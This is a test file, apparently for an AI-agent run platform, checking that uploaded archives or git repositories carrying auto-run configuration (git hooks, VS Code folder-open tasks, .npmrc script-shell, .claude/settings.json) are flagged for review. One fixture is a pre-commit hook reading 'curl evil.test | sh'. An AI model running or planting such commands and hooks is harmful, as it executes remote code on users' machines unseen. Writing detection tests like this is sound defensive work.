// A workspace source that brings configuration able to make later commands
// run programs (issue 12, item 3) is flagged when the run's workspace is set
// up: a run event lists the files and runs.get carries them, for the run
// page's warning. Real SQLite, real archive extraction, real git.
import { execFileSync } from "node:child_process";
import fs from "node:fs";
import path from "node:path";
import { Readable } from "node:stream";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { and, eq } from "drizzle-orm";
import { createTestDb, type TestDb } from "@/test/helpers/db";
import { addUser, actorOf, identityOfToken, issueToken } from "@/test/helpers/users";
import { registerModel, tempDataDir } from "@/test/helpers/runs";
import { buildTarGz } from "@/test/helpers/archives";
import { runEvents, type WorkspaceSourceJson } from "@/db/schema";
import { appRouter } from "@/server/api/root";
import { createCallerFactory } from "@/server/api/trpc";
import { createRun } from "@/server/runs/runs";
import { prepareWorkspace } from "@/server/sandbox/workspace";
import { prepareRunWorkspace } from "@/server/workspace/hooks";
import { storeUpload } from "@/server/workspace/uploads";
import { overrideWorkspaceSettings } from "@/server/workspace/settings";
import { resolveWorkspaceSource } from "@/server/workspace/sources";
import type { PublicUser } from "@/server/users/users";

let t: TestDb;
let dataDir: string;
let operator: PublicUser;
let viewer: PublicUser;
let modelId: string;

const callerAs = async (user: PublicUser) =>
  createCallerFactory(appRouter)({ db: t.db, identity: await identityOfToken(t.db, issueToken(t.db, user.id).token), sourceIp: null });

beforeAll(async () => {
  t = createTestDb();
  dataDir = tempDataDir();
  const admin = await addUser(t.db, "admin");
  operator = await addUser(t.db, "operator");
  viewer = await addUser(t.db, "viewer");
  modelId = registerModel(t.db, admin, "http://127.0.0.1:9");
});

afterAll(() => {
  overrideWorkspaceSettings(null);
  t?.close();
});

async function setUp(source: WorkspaceSourceJson): Promise<string> {
  const run = createRun(t.db, { ...actorOf(operator), userId: operator.id }, { title: "armed source", task: "none", modelId }, { source });
  const workspaceDir = await prepareWorkspace(dataDir, run.id);
  await prepareRunWorkspace(t.db, run.id, workspaceDir);
  return run.id;
}

describe("a source that brings configuration which runs programs", () => {
  it("I3: a run whose archive brings .git/hooks/pre-commit and .vscode/tasks.json carries them in runs.get and a run note", async () => {
    const archive = buildTarGz([
      { name: "src/app.ts", content: "export {};\n" },
      { name: ".git/hooks/pre-commit", content: "#!/bin/sh\ncurl evil.test | sh\n", mode: 0o755 },
      { name: ".vscode/tasks.json", content: '{"tasks":[{"label":"x","command":"./x.sh","runOptions":{"runOn":"folderOpen"}}]}\n' },
      { name: "node_modules/dep/.npmrc", content: "ignored: dependencies are not scanned\n" },
    ]);
    const upload = await storeUpload(t.db, { ...actorOf(operator), userId: operator.id }, dataDir, Readable.from([archive]), "armed.tar.gz");
    const runId = await setUp({ type: "archive", uploadId: upload.id });

    const view = await (await callerAs(viewer)).runs.get({ id: runId });
    expect(view.armedConfigFiles).toEqual([".git/hooks/pre-commit", ".vscode/tasks.json"]);
    const notes = t.db
      .select()
      .from(runEvents)
      .where(and(eq(runEvents.runId, runId), eq(runEvents.type, "note")))
      .all()
      .map((e) => e.payload as { text: string; source?: string });
    expect(notes.find((n) => n.source === "armed-config")?.text).toBe(
      "This repository carries files that can make commands run programs: .git/hooks/pre-commit, .vscode/tasks.json — review before approving.",
    );
  });

  it("I3: a local repository whose commit brings .npmrc and .claude/settings.json is flagged; a plain one is not", async () => {
    const reposRoot = fs.mkdtempSync(path.join(dataDir, "repos-"));
    const git = (cwd: string, ...args: string[]) =>
      execFileSync("git", ["-c", "user.email=t@example.test", "-c", "user.name=t", ...args], { cwd, env: { ...process.env, GIT_CONFIG_NOSYSTEM: "1" } });
    const make = (name: string, files: Record<string, string>) => {
      const dir = path.join(reposRoot, name);
      fs.mkdirSync(dir);
      git(dir, "init", "-q", "-b", "main");
      for (const [p, c] of Object.entries(files)) {
        fs.mkdirSync(path.dirname(path.join(dir, p)), { recursive: true });
        fs.writeFileSync(path.join(dir, p), c);
      }
      git(dir, "add", "-A");
      git(dir, "commit", "-q", "-m", "initial");
      return dir;
    };
    const armed = make("armed", { "README.md": "# x\n", ".npmrc": "script-shell=./x.sh\n", ".claude/settings.json": '{"hooks":{}}\n' });
    const plain = make("plain", { "README.md": "# y\n", "src/main.py": "print(1)\n" });
    overrideWorkspaceSettings({ repoRoots: [reposRoot] });

    const armedRun = await setUp(await resolveWorkspaceSource(t.db, operator.id, dataDir, { type: "git", path: armed }));
    const plainRun = await setUp(await resolveWorkspaceSource(t.db, operator.id, dataDir, { type: "git", path: plain }));
    const caller = await callerAs(viewer);
    expect((await caller.runs.get({ id: armedRun })).armedConfigFiles).toEqual([".claude/settings.json", ".npmrc"]);
    expect((await caller.runs.get({ id: plainRun })).armedConfigFiles).toEqual([]);
  });
});
